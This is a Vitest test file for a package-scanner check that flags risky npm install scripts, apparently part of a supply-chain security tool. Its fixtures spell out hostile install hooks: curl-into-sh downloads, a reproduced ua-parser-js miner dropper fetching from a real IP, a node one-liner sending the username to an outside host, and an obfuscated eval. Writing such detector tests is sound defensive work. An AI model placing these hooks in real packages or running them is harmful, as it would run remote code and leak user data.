import { describe, expect, it } from 'vitest';
import { installScripts } from '../../src/checks/install-scripts.js';
import { testCheck } from '../helpers/check-tester.js';
import { contextOf } from '../helpers/package-builder.js';

testCheck(installScripts, {
  flagged: [
    {
      label: 'postinstall piping a download into sh',
      manifest: { scripts: { postinstall: 'curl -fsSL https://collect.example/i.sh | sh' } },
      severity: 'critical',
      message: /postinstall script pipes a download into an interpreter/,
    },
    {
      label: 'preinstall running a shipped shell script that downloads and runs a miner (ua-parser-js 2021)',
      manifest: { scripts: { preinstall: 'bash preinstall.sh' } },
      files: {
        'preinstall.sh':
          '#!/bin/bash\nIP=$(curl -k https://freegeoip.app/xml/ | grep RU)\ncurl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x ./jsextension\n./jsextension -k --tls\n',
      },
      severity: 'critical',
      message: /through preinstall\.sh/,
    },
    {
      label: 'install running node -e that phones home',
      manifest: {
        scripts: { install: "node -e \"require('http').get('http://1.2.3.4:8080/'+process.env.USER)\"" },
      },
      severity: 'critical',
    },
    {
      label: 'obfuscated postinstall',
      manifest: {
        scripts: {
          postinstall: 'node -e "eval(atob(\'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=\'))"',
        },
      },
      severity: 'critical',
    },
    {
      label: 'a detached background worker',
      manifest: { scripts: { postinstall: 'nohup node lib/agent.js > /dev/null 2>&1 &' } },
      severity: 'medium',
    },
  ],
  clean: [
    { label: 'a package without scripts', manifest: { main: 'index.js' } },
    {
      label: 'native addon with node-gyp rebuild',
      manifest: { scripts: { install: 'node-gyp rebuild' }, gypfile: true },
      files: { 'binding.gyp': "{ 'targets': [] }" },
    },
    {
      label: 'prebuilt binary with fallback',
      manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
    },
    {
      label: 'esbuild-style install.js',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: { 'install.js': '' },
    },
    {
      label: 'core-js-style banner',
      manifest: { scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
    },
    {
      label: 'scripts that only run at development time',
      manifest: { scripts: { test: 'curl https://x | sh', build: 'tsc' } },
    },
    {
      label: 'a shipped shell script that only builds',
      manifest: { scripts: { install: 'sh build.sh' } },
      files: { 'build.sh': '#!/bin/sh\nnode-gyp rebuild\n' },
      cleanBelow: 'high',
    },
  ],
});

describe('install-scripts details', () => {
  it('points at the line of the script in package.json and quotes it', () => {
    const [finding] = installScripts.runToFindings(
      contextOf({
        manifest: { description: 'x', scripts: { postinstall: 'curl -s https://a.example/x | sh' } },
      }),
    );
    expect(finding?.location).toEqual({ file: 'package.json', line: 6, column: 5 });
    expect(finding?.evidence).toBe('curl -s https://a.example/x | sh');
  });

  it('reports the implicit node-gyp rebuild of a binding.gyp as low', () => {
    const findings = installScripts.runToFindings(contextOf({ files: { 'binding.gyp': '{}' } }));
    expect(findings).toMatchObject([{ severity: 'low', title: 'Implicit native build' }]);
  });

  it('no implicit build when gypfile is false or an install script exists', () => {
    expect(
      installScripts.runToFindings(
        contextOf({ manifest: { gypfile: false }, files: { 'binding.gyp': '{}' } }),
      ),
    ).toEqual([]);
    const withScript = installScripts.runToFindings(
      contextOf({ manifest: { scripts: { install: 'node-gyp rebuild' } }, files: { 'binding.gyp': '{}' } }),
    );
    expect(withScript.map((finding) => finding.title)).toEqual(['install script']);
  });

  it('evidence never carries terminal control characters', () => {
    const [finding] = installScripts.runToFindings(
      contextOf({
        manifest: { scripts: { postinstall: 'echo \u001b[2Jhi\u001b]0;x\u0007 && curl https://a/x | sh' } },
      }),
    );
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence
    expect(finding?.evidence).not.toMatch(/[\u0000-\u001f]/);
  });
});
